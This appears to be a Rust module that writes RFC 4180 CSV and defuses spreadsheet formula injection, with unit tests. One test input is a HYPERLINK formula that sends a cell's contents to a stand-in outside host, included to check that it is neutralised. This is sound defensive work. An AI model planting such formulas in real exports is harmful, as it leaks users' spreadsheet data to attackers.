//! CSV as RFC 4180 spells it: a header row, fields quoted only when they
//! must be, and text that a spreadsheet would run as a formula made inert.
//!
//! Every CSV the tool writes goes through [`record`], so every text cell is
//! neutralised (FORMAT.md, "Exports and safety"): a cell that starts with
//! `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, and a
//! spreadsheet shows it as text instead of running it (the CSV injection
//! of OWASP). Numbers are [`Cell::number`]: written as they are, so `-3`
//! stays a number.

use std::fmt::Display;

/// One cell of a record, in its final CSV spelling.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Cell(String);

/// The first characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

impl Cell {
    /// Text written by a person (a client's name, a manager's name, a path):
    /// neutralised when it could start a formula, then quoted when it holds
    /// a comma, a quote or a line break, with quotes doubled inside.
    pub fn text(text: &str) -> Cell {
        let neutral = if text.starts_with(FORMULA_STARTS) {
            format!("'{text}")
        } else {
            text.to_owned()
        };
        Cell(quote(neutral))
    }

    /// A number of a numeric column (`950000`, `-3`): written as it is.
    pub fn number(number: impl Display) -> Cell {
        Cell(quote(number.to_string()))
    }

    /// A number that may be absent: an empty cell then.
    pub fn maybe_number(number: Option<impl Display>) -> Cell {
        number.map_or_else(|| Cell(String::new()), Cell::number)
    }
}

impl From<&str> for Cell {
    fn from(text: &str) -> Cell {
        Cell::text(text)
    }
}

impl From<&String> for Cell {
    fn from(text: &String) -> Cell {
        Cell::text(text)
    }
}

fn quote(text: String) -> String {
    if text.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", text.replace('"', "\"\""))
    } else {
        text
    }
}

/// One record, ended by a line feed.
pub fn record(cells: &[Cell]) -> String {
    let mut line = cells
        .iter()
        .map(|cell| cell.0.as_str())
        .collect::<Vec<_>>()
        .join(",");
    line.push('\n');
    line
}

/// The header record: column names.
pub fn header(names: &[&str]) -> String {
    record(
        &names
            .iter()
            .map(|&name| Cell::text(name))
            .collect::<Vec<_>>(),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn field(text: &str) -> String {
        Cell::text(text).0
    }

    #[test]
    fn quotes_only_when_needed() {
        assert_eq!(field("ACME"), "ACME");
        assert_eq!(field("ООО «Ромашка»"), "ООО «Ромашка»");
        assert_eq!(field("Smith, Jones"), "\"Smith, Jones\"");
        assert_eq!(field("the \"best\""), "\"the \"\"best\"\"\"");
        assert_eq!(field("two\nlines"), "\"two\nlines\"");
        assert_eq!(field(""), "");
    }

    #[test]
    fn formulas_become_text() {
        assert_eq!(
            field("=HYPERLINK(\"http://x.example/?q=\"&A1,\"Click\")"),
            "\"'=HYPERLINK(\"\"http://x.example/?q=\"\"&A1,\"\"Click\"\")\""
        );
        assert_eq!(field("@SUM(1+9)"), "'@SUM(1+9)");
        assert_eq!(field("+7 495 000-00-00"), "'+7 495 000-00-00");
        assert_eq!(field("-1"), "'-1");
        assert_eq!(field("\tx"), "'\tx");
        assert_eq!(field("\rx"), "\"'\rx\"");
        // Only the first character counts.
        assert_eq!(field("a=b"), "a=b");
    }

    #[test]
    fn numbers_stay_numbers() {
        assert_eq!(Cell::number(-3).0, "-3");
        assert_eq!(Cell::number(950_000.0).0, "950000");
        assert_eq!(Cell::maybe_number(None::<i64>).0, "");
    }

    #[test]
    fn joins_a_record() {
        assert_eq!(
            record(&[Cell::text("a"), Cell::text("b,c"), Cell::text("")]),
            "a,\"b,c\",\n"
        );
        assert_eq!(header(&["id", "client"]), "id,client\n");
    }
}
